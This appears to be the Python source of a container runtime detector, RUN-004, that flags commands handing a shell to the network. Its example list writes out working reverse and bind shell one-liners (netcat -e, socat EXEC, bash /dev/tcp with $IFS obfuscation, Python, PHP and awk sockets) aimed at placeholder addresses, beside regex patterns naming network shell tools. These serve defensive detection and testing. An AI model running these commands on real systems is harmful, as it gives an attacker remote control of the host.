"""RUN-004: a command line that hands a shell or a program to the network: netcat -e, socat EXEC, one-liners, pipelines.

It goes by what the command line or the pipeline does, not by the tool's name. That the socket really became a shell's
input is RUN-003's to say. Trying whether a port answers (`nc -z`, `echo > /dev/tcp/…`) is not meant.
"""

from __future__ import annotations

import re
from bisect import bisect_left

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict, shell_interest
from periderm.engines.runtime.process import Process
from periderm.engines.runtime.scene import HOST, runs, scene
from periderm.engines.runtime.situation import called, code_readings, may_be_told, speaks, tool_interest, words
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventFlag, EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_NETCATS = words(
    """
    nc ncat netcat nc.openbsd nc.traditional nc.bsd nc6 cryptcat pwncat sbd dbd gs-netcat rcat rustcat
    """
)
_RELAYS = _NETCATS | {"socat", "telnet", "openssl"}
_NAME = r"(?:ba|da|a|z|k|c|tc|fi|pwsh|)sh\b"
_SHELL = r"(?:/[\w./-]*/)?" + _NAME
_OPTION = re.compile(r"-[a-zA-Z46]*[ec](=?/.*)?|--(?:exec|sh-exec|lua-exec)(=.*)?")
_SOCAT_RUN = re.compile(r"(?i)(^|,)(exec|system|shell):")
_SOCAT_NET = re.compile(r"(?i)^(tcp|udp|sctp|openssl|ssl|dtls|vsock|proxy|socks)[\w-]*:")
_NUMBER = re.compile(r"\d{1,5}")
_PEER = re.compile(r"\d{1,3}(\.\d{1,3}){3}|[\w-]+(\.[\w-]+)+|localhost|\[?[0-9a-fA-F]*:[0-9a-fA-F:.]+\]?")
# What code says that speaks to the network, and what it says that runs a program or moves descriptors.
_NET = re.compile(
    r"/dev/(tcp|udp)/|/inet[46]?/(tcp|udp)/|\bsocket\b|IO::Socket|\b(TCP|UDP)(Socket|Server)|fsockopen|stream_socket_|"
    r"\bnet['\"]?\)?\.(connect|Socket|createServer|createConnection)|createConnection\(|Net\.Sockets|Deno\.(connect|listen)|"
    r"tcp_connect|WebSocket|s_client"
)
_RUN = re.compile(
    r"\bdup2?\(|pty\.spawn|fileno\(\)|child_process|\bspawn(Sync)?\(|proc_open|shell_exec|passthru\(|popen|subprocess|"
    rf"os\.(system|exec)|\bsystem\(|\bexec[lv]?[pe]*\b|\|&?\s*getline|>&\s*[\w$]|fdopen|\bio\.popen|"
    rf"(?<![\w$>]){_NAME}[^\w./]|Deno\.(run|Command)"
)
_BOTH = re.compile(  # a shell's path need not be read to find the shell
    rf"sh\b(?:(?!sh\b)[^|;\n])*?\s-[a-z]*i\b|0[<>]&[ $\w]|sh\b\s*<&|<&\s*\d+\s*(?:\|\s*)?{_SHELL}|"
    r"while\s+read\b(?:(?!while\s+read\b)[^;])*?(?:;\s*)?do\b|"
    rf"\|\s*{_SHELL}(?=\s*([|;&>)]|$|\d>|['\"]))|\beval\b"
)
_MAKES_FIFO = re.compile(r"mkfifo|mknod\b(?:(?!mknod\b)[^;|&])*?\sp\b")
_INTO_NET = re.compile(r"\|\s*(?:nc|ncat|netcat|telnet|socat|openssl)\b")
_FROM_NET = re.compile(
    r"\b(?:nc|ncat|netcat|telnet|socat|openssl)\b(?>(?:(?!\b(?:nc|ncat|netcat|telnet|socat|openssl)\b)[^|;])*)\|\s*" + _SHELL
)
_SOME_SHELL = re.compile(r"sh\b")
_QUIET = words(
    """
    su script xterm screen tmux flock env timeout nohup watch ssh sudo docker podman kubectl crictl nsenter chroot runuser
    setpriv unshare strace find xargs parallel sshpass make git rsync gosu su-exec systemd-run
    """
)


def _judge(context: Context) -> Verdict | None:
    if context.event.kind is not EventKind.EXEC or context.process.runtime or speaks(context):
        return None
    how = _tool(context) or _code(context) or _pipeline(context)
    if not how:
        return None
    return Verdict(object=context.process.exe, fill={"how": how}, evidence={"how": how, "line": context.line[:300]})


def _tool(context: Context) -> str:
    """`-e /bin/sh` of a netcat by any name, or socat's EXEC."""
    what = context.command
    rest = what.arguments
    if any(_SOCAT_RUN.search(a) for a in rest) and any(_SOCAT_NET.search(a) for a in rest):
        return "socat EXEC"
    netcat = bool(_NETCATS.intersection(called(context)))
    if what.name in _QUIET or programs.is_shell(what) or programs.interpreter(what.name):
        return ""
    for index, argument in enumerate(rest):
        found = _OPTION.fullmatch(argument)
        if found is None:
            continue
        attached = (found[1] or found[2] or "").lstrip("=")
        value = attached or (rest[index + 1] if index + 1 < len(rest) else "")
        shell = re.match(_SHELL, value) is not None or programs.base(value.split(" ")[0]) in {*programs.SHELLS, "busybox"}
        if netcat and (shell or "/" in value or (" " in value and "e" in argument + "sh-exec")):
            return f"{what.name} {argument}"
        others = [a for a in rest if a not in (argument, value)]
        there = any(_PEER.fullmatch(a) for a in others) or any(a.startswith("-") and "l" in a for a in (*others, argument))
        if shell and there and any(_NUMBER.fullmatch(a) for a in others):
            return f"{what.name} {argument}"
    return ""


def _code(context: Context) -> str:
    """A command line that is code, and opens a connection and gives it to a program."""
    what = context.command
    shell = programs.is_shell(what) or context.process.copied_shell
    other = bool(programs.interpreter(what.name)) or what.name in ("awk", "gawk", "mawk", "nawk", "expect", "busybox", "java")
    if not shell and not other:
        return ""
    if programs.script(what) and what.name not in ("awk", "gawk", "mawk", "nawk"):
        return ""
    for text in code_readings(context):
        if shell:
            if ("/dev/tcp/" in text or "/dev/udp/" in text) and _BOTH.search(text):
                return "/dev/tcp"
            if _fifo(text):
                return "named pipe"
        elif _NET.search(text) and _RUN.search(text):
            return f"{what.name}: code"
    return ""


def _pipeline(context: Context) -> str:
    """A shell that is told what to do by a relay's output, or a relay fed from such a shell."""
    what = context.command
    if programs.is_shell(what) or context.process.copied_shell:
        if not _listens_to_input(context.process):
            return ""
        for other in (context.feeder, context.fed):
            if other is not None and _relay(other):
                return f"{programs.base(other.exe)} | {what.name}"
        return ""
    if _RELAYS.intersection(called(context)):
        for other in (context.feeder, context.fed):
            if other is not None and _shell(other) and _listens_to_input(other):
                return f"{programs.base(other.exe)} | {what.name}"
    return ""


def _relay(process: Process) -> bool:
    return programs.command(process.exe, process.argv).name in _RELAYS


def _shell(process: Process) -> bool:
    return process.copied_shell or programs.is_shell(programs.command(process.exe, process.argv))


def _listens_to_input(process: Process) -> bool:
    """A shell with neither a command nor a script, which began as a program of its own (not a subshell of a script)."""
    what = programs.command(process.exe, process.argv)
    given = any(a.startswith(("-", "+")) and not a.startswith("--") and "c" in a for a in what.arguments)
    return not given and not programs.script(what)


def _fifo(text: str) -> bool:
    """A named pipe is made, and later on the line something is piped into a network tool or from one into a shell."""
    made: dict[int, int] = {}  # where a line ends, and where on it the first pipe is made
    for found in _MAKES_FIFO.finditer(text):
        end = text.find("\n", found.end())
        made.setdefault(len(text) if end < 0 else end, found.end())
    if not made:
        return False
    into = [found.start() for found in _INTO_NET.finditer(text)]
    out = [found.start() for found in _FROM_NET.finditer(text)]
    for end, start in made.items():
        at = bisect_left(into, start)
        if at < len(into) and into[at] <= end:
            return True
        at = bisect_left(out, start)
        if at < len(out) and out[at] <= end:
            return True
        shells = [found.end() for found in _SOME_SHELL.finditer(text, start, end)]
        if shells:
            stop = text.find(";", shells[-1])
            at = bisect_left(into, shells[-1])
            if at < len(into) and (stop < 0 or into[at] < stop):
                return True
    return False


DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-004",
        title=Text("Run a shell for the network", "为网络连接运行 shell"),
        message=Text(
            "{process} in {subject} is told to give a shell to the network ({how}).",
            "{subject} 中的 {process} 被要求把 shell 交给网络连接（{how}）。",
        ),
        severity=Severity.CRITICAL,
        maturity=Maturity.STABLE,
        remediation=Text(
            "Kill it and block the address that it names. Leave netcat, socat and interpreters out of images that do not need "
            "them, and let the container reach only the addresses that it needs.",
            "终止该进程并封锁其中的地址。不需要的镜像不应包含 netcat、socat 和解释器，并只允许容器访问所需的地址。",
        ),
        techniques=("T1059", "T1059.004"),
        behaviours=(4,),
        fires=(
            Example(scene(runs(2, 1, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.1.1.1", "4444")), "netcat -e"),
            Example(scene(runs(2, 1, "/bin/busybox", "busybox", "nc", "-lp", "99", "-e", "sh")), "a busybox applet that binds"),
            Example(scene(runs(2, 1, "/usr/bin/ncat", "ncat", "--sh-exec=bash -i", "198.51.100.7", "443")), "ncat --sh-exec"),
            Example(scene(runs(2, 1, "/opt/cache", "cache", "10.0.0.9", "443", "-e", "/bin/bash")), "a renamed netcat"),
            Example(
                scene(runs(2, 1, "/opt/s", "s", "OPENSSL:198.51.100.7:443,verify=0", "EXEC:'bash -li',pty,stderr")),
                "a renamed socat",
            ),
            Example(
                scene(runs(2, 1, "/lib64/ld-linux-x86-64.so.2", "ld.so", "/usr/bin/ncat", "-c", "/bin/sh", "h.example", "1")),
                "behind the dynamic loader",
            ),
            Example(
                scene(
                    runs(
                        2,
                        1,
                        "/usr/bin/python3.11",
                        "python3",
                        "-c",
                        "import "
                        "socket,os,pty;s=socket.socket();s.connect(('198.51.100.7',9));os.dup2(s.fileno(),0);pty.spawn('sh')",
                    )
                ),
                "a Python one-liner",
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/mawk", "awk", 'BEGIN{s="/inet/tcp/0/198.51.100.7/9";while(1){s|&getline c}}')),
                "awk speaks to the network",
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", "b'a'sh${IFS}-i>&/dev/tcp/198.51.100.7/9 0>&1")),
                "$IFS and quotes",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/dash", "sh", "-i", pipes=(7, 8)),
                    runs(3, 1, "/usr/bin/nc.openbsd", "nc", "198.51.100.7", "9", pipes=(8, 9)),
                ),
                "split over processes: a named pipe, a shell and nc",
            ),
            Example(
                scene(runs(20, 1, "/usr/bin/php8.2", "php", "-r", '$s=fsockopen("h",9);exec("sh <&3 >&3");', on=HOST)),
                "PHP on the plain host",
            ),
        ),
        quiet=(
            Example(scene(runs(2, 1, "/usr/bin/nc.openbsd", "nc", "-z", "-w", "2", "localhost", "80")), "a health check"),
            Example(
                scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; echo GET >&3; cat <&3")),
                "a health check without curl",
            ),
            Example(scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", "(echo >/dev/tcp/db/5432) 2>/dev/null")), "wait-for-it"),
            Example(
                scene(
                    runs(
                        2,
                        1,
                        "/usr/bin/python3.11",
                        "python3",
                        "-c",
                        "import socket; socket.create_connection(('localhost', 8080), 2)",
                    )
                ),
                "Python asks whether a port answers",
            ),
            Example(scene(runs(2, 1, "/usr/bin/socat", "socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.4:80")), "socat forwards"),
            Example(scene(runs(2, 1, "/usr/bin/su", "su", "-c", "/bin/sh", "app", "10")), "su runs a shell"),
            Example(
                scene(runs(2, 1, "/usr/bin/redis-cli", "redis-cli", "-h", "10.0.0.3", "-p", "6379", "-e")), "an -e of its own"
            ),
        ),
    ),
    interests=(
        shell_interest(actor=may_be_told),
        tool_interest(_NETCATS | {"socat", "telnet", "openssl"}),
        Interest(
            kinds=(EventKind.EXEC,),
            args=(
                r"\x00-[a-zA-Z46]*[ec](=|\x00)?(/[^\x00]*/)?(ba|da|a|z|k|)sh(\x00|$| )",
                r"\x00--(exec|sh-exec|lua-exec)(=|\x00)",
                r"(?i)(\x00|,)(exec|system|shell):",
                r"(?i)socket|/inet[46]?/(tcp|udp)|fsockopen|createConnection|net.connect|base64|b64|fromhex",
            ),
            flags=EventFlag.STDIO_SOCKET,
        ),
        Interest(
            kinds=(EventKind.EXEC,),
            text=(r"(^|/)(python|pypy|perl|ruby|php|lua|luajit|node|deno|awk|gawk|mawk|expect)[0-9.]*$",),
            actor=may_be_told,
        ),
    ),
    judge=_judge,
    existing=True,
)
